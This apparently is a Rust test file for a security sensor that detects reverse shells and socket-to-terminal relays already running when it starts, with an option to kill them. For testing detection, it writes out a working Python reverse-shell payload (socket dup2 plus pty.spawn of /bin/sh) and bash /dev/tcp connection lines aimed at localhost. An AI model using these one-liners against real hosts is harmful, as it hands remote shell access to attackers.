//! What began before the sensor is no blind spot.

use std::{
    process::{Child, Stdio},
    time::Duration,
};

use sentinel_tests::{
    bed::Bed,
    peer::{self, Peer},
    rig::ends_by_signal,
    sentinel::{Sentinel, start_ticks},
};
use serde_json::Value;

fn start(bed: &Bed, program: &str, code: &str) -> Child {
    let mut command = bed.command(program);
    command.args(["-c", code]).stdin(Stdio::null()).stderr(Stdio::null());
    command.stdout(Stdio::null()).spawn().unwrap()
}

/// A shell that has connected out, and the attacker's end.
fn connected_shell(bed: &Bed) -> (Child, sentinel_tests::peer::Shell) {
    let peer = Peer::listen("127.0.0.1");
    let child = peer::reverse_shell(bed, &peer);
    let mut shell = peer.shell();
    assert_eq!(shell.pid(), child.id());
    (child, shell)
}

#[test]
fn a_shell_that_was_connected_before_is_found() {
    let Some(bed) = Bed::new() else { return };
    let (mut child, shell) = connected_shell(&bed);
    let started = start_ticks(child.id());
    let mut sentinel = Sentinel::start(&bed, &[]);
    // Not critical: nobody knows whether it was given a script.
    sentinel.wait_until_told("HIGH reverse_shell");
    // It is told once, whatever it does, and however often it is looked at.
    std::thread::sleep(Duration::from_secs(1));
    shell.exit();
    child.wait().unwrap();
    let outcome = sentinel.stop();
    assert_eq!(outcome.alerts.len(), 1, "{}", outcome.output);
    let alert = &outcome.alerts[0];
    assert_eq!(
        (&alert["pattern_name"], &alert["pid"]),
        (&"reverse_shell".into(), &child.id().into())
    );
    assert_eq!(alert["start_time"].as_u64().unwrap() / 10_000_000, started);
    assert_eq!(alert["exe"], "/usr/bin/bash");
    let cgroup = alert["cgroup"].as_str().unwrap();
    assert!(bed.cgroup().ends_with(cgroup.trim_start_matches('/')), "{cgroup}");
    let steps = alert["steps"].as_array().unwrap();
    let events: Vec<&str> = steps.iter().map(|step| step["event"].as_str().unwrap()).collect();
    assert!(events.contains(&"found") && events.contains(&"running"), "{alert:#}");
}

/// A program that relays between a connection and a shell on a terminal, and the attacker's end.
fn relay(bed: &Bed) -> (Child, sentinel_tests::peer::Shell) {
    let peer = Peer::listen("127.0.0.1");
    let code = format!(
        "import os,pty,socket\ns=socket.create_connection(('127.0.0.1',{}))\n\
         for i in range(3): os.dup2(s.fileno(),i)\npty.spawn('/bin/sh')",
        peer.address().port()
    );
    let child = start(bed, "python3", &code);
    let mut shell = peer.shell();
    shell.pid();
    (child, shell)
}

#[test]
fn a_relay_to_a_terminal_that_was_there_before_is_found() {
    let Some(bed) = Bed::new() else { return };
    let (mut child, shell) = relay(&bed);
    let mut sentinel = Sentinel::start(&bed, &[]);
    sentinel.wait_until_told("CRITICAL");
    shell.exit();
    child.wait().unwrap();
    let outcome = sentinel.stop();
    let critical: Vec<&Value> =
        outcome.alerts.iter().filter(|alert| alert["severity"] == "critical").collect();
    assert_eq!(critical.len(), 1, "{}", outcome.output);
    assert_eq!(critical[0]["pid"], child.id());
}

#[test]
fn a_relay_that_was_there_before_is_ended_if_that_is_asked_for() {
    let Some(bed) = Bed::new() else { return };
    let (mut child, _shell) = relay(&bed);
    let mut sentinel = Sentinel::start(&bed, &["--grimoire-enforce"]);
    sentinel.wait_until_told("terminated");
    assert_eq!(ends_by_signal(&mut child), Some(9));
    let outcome = sentinel.stop();
    assert!(outcome.alerts.iter().any(|alert| alert["action"] == "terminated"));
}

#[test]
fn honest_programs_that_were_there_before_are_left_alone() {
    let Some(bed) = Bed::new() else { return };
    let peer = Peer::listen("127.0.0.1");
    let port = peer.address().port();
    // A program on a connection that is no shell, a shell that only holds one, and a script.
    let mut on_connection =
        start(&bed, "bash", &format!("exec cat <> /dev/tcp/127.0.0.1/{port} >&0"));
    let first = peer.accept();
    let mut holder =
        start(&bed, "bash", &format!("exec 5<>/dev/tcp/127.0.0.1/{port}; sleep 100; :"));
    let second = peer.accept();
    let mut idle = start(&bed, "sh", "sleep 100; :");
    let sentinel = Sentinel::start(&bed, &[]);
    std::thread::sleep(Duration::from_secs(2));
    let outcome = sentinel.stop();
    drop((first, second));
    assert!(outcome.alerts.is_empty(), "{}", outcome.output);
    for child in [&mut on_connection, &mut holder, &mut idle] {
        let _gone = child.kill();
        child.wait().unwrap();
    }
}
